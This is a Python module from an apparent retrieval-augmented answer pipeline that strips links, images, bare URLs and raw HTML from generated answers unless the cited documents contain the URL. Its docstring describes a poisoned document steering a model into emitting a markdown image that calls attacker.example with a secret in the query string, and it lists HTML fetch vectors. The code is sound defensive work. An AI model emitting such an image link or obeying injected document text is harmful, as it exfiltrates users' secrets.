"""Answers are data: an answer links only to URLs that the documents it cites contain.

A chat UI renders the answer as markdown, and a markdown image is fetched as soon as it is shown.
A poisoned document can ask the model to write ``![](https://attacker.example/p.png?q=<secret>)``;
the prompt marks documents as data (:mod:`ragline.query.answer.prompt`), and this is the second line of
defence, on the final answer text, whichever generator wrote it (the streamed deltas are cut from
the same function's output, :mod:`ragline.query.answer.stream`).

What is a link is a CommonMark parser's decision, not a pattern's: the answer is parsed by
markdown-it-py (CommonMark with tables and strikethrough, raw HTML on, as a careless chat UI runs it)
and every link, image, autolink, reference definition and piece of raw HTML in its token stream is
judged by one rule, :func:`allowed`: a safe scheme (``http``, ``https``, ``mailto`` or relative; never
``javascript:``/``data:``, even when a document contains them) and the URL present in the cited
chunks. Nested brackets in a link's text, a reference definition whose destination is on the next
line, a link inside an image's text: whatever the parser makes a link is judged. What fails is taken
out of the text: an image entirely, a link down to its text (``[1](url)`` keeps its citation), a
reference definition entirely, an autolink or a bare URL replaced by the text ``link_removed`` of
:mod:`ragline.query.answer.texts` in the question's language.

An answer needs no raw HTML, and HTML can fetch or run without any URL the link rules would see
(event handlers, ``style`` with ``url()``, ``<meta http-equiv=refresh>``, ``<iframe srcdoc>``,
``@import``). So every HTML token's ``<`` that could open markup is written as ``&lt;`` (a tag whose
URL is not in the cited chunks is dropped first, and counted as removed): a renderer shows the text
and builds no element. Code spans, fences and indented code keep their text as written.

The edits are made on the answer's own text (each token located in it through the parser's line map
and the inline rules' positions), so an answer with nothing to take out comes back unchanged; the
edited text is parsed again until the parser finds nothing to take out (a link's text may hold
another), and a block whose tokens cannot be located has its brackets and ``<`` escaped whole. The
parser is linear in the text; no pattern here runs over the whole answer. Pure functions.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from functools import lru_cache
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.helpers import parseLinkLabel
from markdown_it.rules_inline import StateInline

from ragline.query.answer import texts

_SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_AUTOLINK = re.compile(r"<(?P<dest>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^<>\s]*)>")
_TAG = re.compile(r"<[a-zA-Z][^<>]*>")
_ATTR_URL = re.compile(
    r"""(?:src|href|srcset|poster|data|action|formaction|background)\s*=\s*["']?([^"'\s>]+)""", re.I
)
_BARE = re.compile(
    r"""(?:\b[a-zA-Z][a-zA-Z0-9+.-]{1,31}://|\bwww\.)[^\s<>()\[\]"'`«»]+(?:\([^\s<>()]*\)[^\s<>()\[\]"'`«»]*)*"""
)
_TRAILING = ".,;:!?'\"»)"
#: a ``<`` a browser or a Markdown renderer reads as the start of markup: a tag, an end tag, a
#: comment, a declaration or CDATA, a processing instruction
_MARKUP_START = re.compile(r"<(?=[a-zA-Z/!?])")
#: a fence that opens a code block: only at the start of a line (inside a list item or a quote a
#: fence ends with its container, which :func:`code_regions` does not track, so it is not trusted there)
_FENCE_OPEN = re.compile(r"^(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)$")
_FENCE_CLOSE = re.compile(r"^ {0,3}(?P<fence>`{3,}|~{3,})[ \t]*$")
_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
#: parses of an answer at most: each pass takes out what the previous one uncovered (a link's text
#: holding another); a text still not clean after them has its brackets and ``<`` escaped whole
MAX_PASSES = 4


def _norm(url: str) -> str:
    return url.strip().rstrip(_TRAILING)


def source_urls(sources: list[str]) -> set[str]:
    """Every URL written in the cited chunks (bare, autolinked or as a markdown destination)."""
    found: set[str] = set()
    for text in sources:
        found.update(_urls_of(text))
    found.discard("")
    return found


@lru_cache(maxsize=256)
def _urls_of(text: str) -> frozenset[str]:
    """One chunk's URLs, parsed once: a streamed answer is sanitized at every release against the
    same cited chunks."""
    bare = {_norm(m.group(0)) for m in _BARE.finditer(text)}
    return frozenset(bare | {_norm(span.url) for span in _parse(text)[1] if span.url is not None})


def allowed(url: str, sources: list[str], urls: set[str] | None = None) -> bool:
    """Whether an answer may keep ``url``: a safe scheme, and the URL is in the cited chunks
    (an absolute URL as a whole; a relative one as written)."""
    # what a browser would fetch: entities decoded, control characters and spaces dropped,
    # backslashes read as slashes (a leading double backslash is "//host")
    plain = _CONTROL.sub("", html.unescape(url)).replace("\\", "/")
    scheme = urlsplit(plain).scheme.lower() if ":" in plain else ""
    if scheme and scheme not in _SAFE_SCHEMES:
        return False
    if not _norm(url):
        return False
    if scheme or plain.startswith("//") or plain.lower().startswith("www."):
        return _norm(url) in (source_urls(sources) if urls is None else urls)
    # a relative URL counts only as a whole token ("x" is not in "example")
    token = re.compile(r"(?<![\w/.%-])" + re.escape(_norm(url)) + r"(?![\w/.%-])")
    return any(token.search(text) for text in sources)


def _inline_regions(line: str, offset: int) -> list[tuple[int, int]]:
    """Code spans and autolinks of one line of prose, as ``(start, end)`` in the whole text.

    Read left to right as CommonMark does: a backslash-escaped backtick opens nothing; a run of
    backticks opens a span closed by the next run of the same length, or is plain text; an
    autolink is one unit (backticks inside it open nothing)."""
    regions: list[tuple[int, int]] = []
    i, n = 0, len(line)
    while i < n:
        ch = line[i]
        if ch == "\\" and i + 1 < n and line[i + 1] in _PUNCT:
            i += 2
        elif ch == "`":
            j = i
            while j < n and line[j] == "`":
                j += 1
            run = j - i
            close = next(
                (m for m in re.finditer(r"`+", line[j:]) if len(m.group(0)) == run),
                None,
            )
            if close is None:
                i = j
            else:
                regions.append((offset + i, offset + j + close.end()))
                i = j + close.end()
        elif ch == "<" and (m := _AUTOLINK.match(line, i)):
            regions.append((offset + i, offset + m.end()))
            i = m.end()
        else:
            i += 1
    return regions


def code_regions(text: str) -> list[tuple[int, int]]:
    """The parts of ``text`` a Markdown renderer shows as written, never as HTML: fenced code
    blocks (an unclosed fence runs to the end, as in CommonMark), code spans within one line, and
    autolinks; sorted ``(start, end)`` offsets."""
    regions: list[tuple[int, int]] = []
    pos = 0
    fence: tuple[str, int, int] | None = None  # (character, length, start offset)
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\r\n")
        if fence is None:
            m = _FENCE_OPEN.match(body)
            # a backtick fence's info string holds no backtick (otherwise it is a code span)
            if m and not (m.group("fence")[0] == "`" and "`" in m.group("info")):
                fence = (m.group("fence")[0], len(m.group("fence")), pos)
            else:
                regions += _inline_regions(body, pos)
        else:
            m = _FENCE_CLOSE.match(body)
            if m and m.group("fence")[0] == fence[0] and len(m.group("fence")) >= fence[1]:
                regions.append((fence[2], pos + len(line)))
                fence = None
        pos += len(line)
    if fence is not None:
        regions.append((fence[2], len(text)))
    return regions


# ------------------------------------------------------------------------------------ the parser
@dataclass(frozen=True)
class _Span:
    """A link, image, autolink, HTML tag or code span the parser found, in its inline text: ``kind``
    is the inline rule's name, ``label`` the text between a link's brackets, ``url`` the destination
    as written (backslash escapes and entities decoded, nothing percent-encoded)."""

    kind: str
    start: int
    end: int
    label: tuple[int, int] | None = None
    url: str | None = None


#: the inline rules whose matches are recorded: what may link, fetch or build markup, and code spans
#: (kept as written)
_RECORDED = ("link", "image", "autolink", "html_inline", "backticks")


def _recording(name: str, rule):
    def record(state: StateInline, silent: bool) -> bool:
        start, first = state.pos, len(state.tokens)
        if not rule(state, silent):
            return False
        if not silent:
            label = None
            if name in ("link", "image"):  # found again as the rule found it (it restores pos)
                image = name == "image"
                end = parseLinkLabel(state, start + image, not image)
                label = (start + 1 + image, end) if end >= 0 else None
            url = None
            for token in state.tokens[first:]:
                url = token.attrGet("href") or token.attrGet("src")
                if url is not None:
                    break
            # keyed by the inline text (kept alive beside its id): an image's text is parsed apart
            spans = state.env.setdefault("ragline_spans", {}).setdefault(id(state.src), (state.src, []))[1]
            spans.append(_Span(name, start, state.pos, label, None if url is None else str(url)))
        return True

    return record


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    # every destination is judged by allowed(), none dropped unseen, and as written (allowed()
    # compares it with the documents' text, not percent-encoded)
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.normalizeLink = lambda url: url  # type: ignore[method-assign]
    for rule in md.inline.ruler.__rules__:
        if rule.name in _RECORDED:
            md.inline.ruler.at(rule.name, _recording(rule.name, rule.fn))
    return md


_MD = _parser()


def _parse(text: str) -> tuple[list, list[_Span]]:
    """The block tokens of ``text`` and every link, image and autolink found in it (for a source's
    URLs; positions are not used there)."""
    env: dict = {}
    tokens = _MD.parse(text, env)
    spans = [span for _, found in env.get("ragline_spans", {}).values() for span in found]
    refs = [_Span("reference", 0, 0, None, r.get("href")) for r in env.get("references", {}).values()]
    return tokens, [s for s in spans if s.kind in ("link", "image", "autolink")] + refs


def _line_starts(text: str) -> list[int]:
    starts = [0]
    for i, ch in enumerate(text):
        if ch == "\n":
            starts.append(i + 1)
    return starts


def _locate(text: str, starts: list[int], first_line: int, content: str) -> list[int] | None:
    """Where each line of an inline token's ``content`` begins in ``text`` (the token's lines start at
    ``first_line``), or None when a line is not found as it is there (a heading's closing ``#``s, a
    table cell the same as another)."""
    out = []
    for n, piece in enumerate(content.split("\n")):
        line_no = first_line + n
        if line_no + 1 > len(starts):
            return None
        line_end = starts[line_no + 1] - 1 if line_no + 1 < len(starts) else len(text)
        line = text[starts[line_no] : line_end]
        stripped = line.rstrip()
        if line.endswith(piece):
            at = len(line) - len(piece)
        elif stripped.endswith(piece):
            at = len(stripped) - len(piece)
        elif (at := line.find(piece)) < 0 or line.find(piece, at + 1) >= 0:
            return None
        out.append(starts[line_no] + at)
    return out


# ------------------------------------------------------------------------------------ the rule
class _Judge:
    """One answer's decisions: which URLs may stay (:func:`allowed`) and the ones taken out."""

    def __init__(self, sources: list[str], mark: str) -> None:
        self.sources = sources
        self.urls = source_urls(sources)
        self.mark = mark
        self.removed: list[str] = []

    def keep(self, url: str) -> bool:
        if allowed(url, self.sources, self.urls):
            return True
        if url not in self.removed:
            self.removed.append(url)
        return False

    def html(self, piece: str) -> str:
        """Raw HTML made inert: tags with a URL not allowed dropped, every ``<`` of markup escaped."""

        def tag(m: re.Match) -> str:
            inner = _ATTR_URL.findall(m.group(0)) + [u.group(0) for u in _BARE.finditer(m.group(0))]
            return m.group(0) if all([self.keep(u) for u in inner]) else ""  # every URL recorded

        return _MARKUP_START.sub("&lt;", _TAG.sub(tag, piece))

    def bare(self, piece: str) -> str:
        def one(m: re.Match) -> str:
            url = _norm(m.group(0))
            return m.group(0) if self.keep(url) else self.mark + m.group(0)[len(url) :]

        return _BARE.sub(one, piece)

    def span(self, src: str, span: _Span) -> str | None:
        """What a recorded span becomes (None: it stays as written)."""
        if span.kind == "backticks":
            return None
        if span.kind == "html_inline":
            piece = src[span.start : span.end]
            return self.html(piece)
        url = span.url or ""
        if span.kind == "autolink":
            url = src[span.start + 1 : span.end - 1]  # as written, without a "mailto:" added
        if self.keep(url):
            return None
        if span.kind in ("image", "autolink"):
            return "" if span.kind == "image" else self.mark
        label = src[span.label[0] : span.label[1]] if span.label else ""
        return f"[{label}]" if label.isdigit() else label  # "[1](url)" keeps its citation


def _bare_edits(judge: _Judge, src: str, lo: int, hi: int) -> list[tuple[int, int, str]]:
    """Bare URLs in ``src[lo:hi]`` (prose), one line at a time (an edit never crosses a line), and
    every ``<`` that could open markup escaped there too: text the parser left as text may still be
    a tag to a renderer that is not CommonMark's."""
    edits = []
    while lo < hi:
        end = src.find("\n", lo, hi)
        end = hi if end < 0 else end
        new = judge.bare(_MARKUP_START.sub("&lt;", src[lo:end]))
        if new != src[lo:end]:
            edits.append((lo, end, new))
        lo = end + 1
    return edits


def _inline_edits(
    judge: _Judge, src: str, spans: list[_Span], lo: int, hi: int
) -> list[tuple[int, int, str]]:
    """The edits of ``src[lo:hi]`` (an inline text, or a kept link's text), in ``src``'s positions:
    the outermost spans judged, a kept link's text judged the same way (an image in it), a taken
    out link's text judged on the next pass, bare URLs in the prose between."""
    edits: list[tuple[int, int, str]] = []
    pos = lo
    for span in spans:
        if span.start < pos or span.end > hi or span.start < lo:
            continue  # outside the range, or inside one judged already
        edits += _bare_edits(judge, src, pos, span.start)
        new = judge.span(src, span)
        if new is None and span.kind == "link" and span.label:
            edits += _inline_edits(judge, src, spans, *span.label)
        elif new is not None and new != src[span.start : span.end]:
            edits.append((span.start, span.end, new))
        pos = span.end
    return edits + _bare_edits(judge, src, pos, hi)


def _escaped(piece: str) -> str:
    """A block whose tokens could not be located: nothing in it can open a link, an image or markup."""
    return piece.replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]").replace("<", "&lt;")


def _references(
    judge: _Judge, text: str, starts: list[int], covered: list[bool]
) -> list[tuple[int, int, str]]:
    """Reference definitions (the lines no block token covers that are not blank): a run of them is
    taken out when one of its destinations is not allowed."""
    edits = []
    line = 0
    while line < len(covered):
        if (
            covered[line]
            or not text[starts[line] : (starts[line + 1] if line + 1 < len(starts) else len(text))].strip()
        ):
            line += 1
            continue
        first = line
        while line < len(covered) and not covered[line]:
            line += 1
        start, end = starts[first], starts[line] if line < len(starts) else len(text)
        env: dict = {}
        _MD.parse(text[start:end], env)
        hrefs = [r.get("href", "") for r in env.get("references", {}).values()]
        if not all([judge.keep(h) for h in hrefs]):  # every URL recorded
            edits.append((start, end, ""))
    return edits


def _pass(judge: _Judge, text: str) -> str:
    """One parse of ``text`` and the edits it asks for, applied (the judge sees the blocks in order,
    then the reference definitions, so the URLs taken out are listed as they appear)."""
    env: dict = {}
    tokens = _MD.parse(text, env)
    spans = env.get("ragline_spans", {})
    starts = _line_starts(text)
    edits: list[tuple[int, int, str]] = []
    for token in tokens:
        if not token.map:
            continue
        if token.type == "html_block":
            start, end = _block_range(text, starts, token.map)
            edits.append((start, end, judge.html(text[start:end])))
        elif token.type == "inline":
            edits += _inline_token_edits(judge, text, starts, token, spans)
    edits += _references(judge, text, starts, _covered(tokens, len(starts)))
    return _applied(text, edits)


def _block_range(text: str, starts: list[int], lines: list[int]) -> tuple[int, int]:
    """Where a block token's lines (its ``map``) begin and end in ``text``."""
    return starts[lines[0]], starts[lines[1]] if lines[1] < len(starts) else len(text)


def _covered(tokens: list, lines: int) -> list[bool]:
    """Which of the ``lines`` lines a top-level block token covers (the rest may be reference
    definitions, or blank)."""
    covered = [False] * lines
    for token in tokens:
        if token.map and token.level == 0:
            for n in range(token.map[0], min(token.map[1], lines)):
                covered[n] = True
    return covered


def _inline_token_edits(
    judge: _Judge, text: str, starts: list[int], token, spans: dict
) -> list[tuple[int, int, str]]:
    """The edits an inline token asks for, moved from its content's positions to ``text``'s; the
    token's lines escaped whole when its content cannot be located there."""
    content = token.content
    found = sorted(spans.get(id(content), ("", []))[1], key=lambda s: (s.start, -s.end))
    own = _inline_edits(judge, content, found, 0, len(content))
    if not own:
        return []
    at = _locate(text, starts, token.map[0], content)
    if at is None:
        start, end = _block_range(text, starts, token.map)
        return [(start, end, judge.bare(_escaped(text[start:end])))]
    offsets = [0]
    for piece in content.split("\n")[:-1]:
        offsets.append(offsets[-1] + len(piece) + 1)

    def place(pos: int) -> int:  # an edit stays within one line of the content, or spans lines whole
        line = max(k for k, o in enumerate(offsets) if o <= pos)
        return at[line] + pos - offsets[line]

    return [(place(a), place(b), new) for a, b, new in own]


def _applied(text: str, edits: list[tuple[int, int, str]]) -> str:
    """``text`` with ``edits`` (start, end, replacement) made, in order; one overlapping an earlier
    one is dropped."""
    out, pos = [], 0
    for a, b, new in sorted(edits):
        if a < pos:
            continue
        out += [text[pos:a], new]
        pos = b
    out.append(text[pos:])
    return "".join(out)


def sanitize_links(answer: str, sources: list[str], lang: str = texts.FALLBACK) -> tuple[str, list[str]]:
    """``answer`` without images, links, URLs and raw HTML that ``sources`` (the texts of the cited
    chunks) do not allow, and the URLs taken out, in order of appearance; a removed URL is marked in
    ``lang``, the question's language."""
    judge = _Judge(sources, texts.say("link_removed", lang))
    text = answer.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    for _ in range(MAX_PASSES):
        edited = _pass(judge, text)
        if edited == text:
            return text, judge.removed
        text = edited
    return judge.bare(_escaped(text)), judge.removed
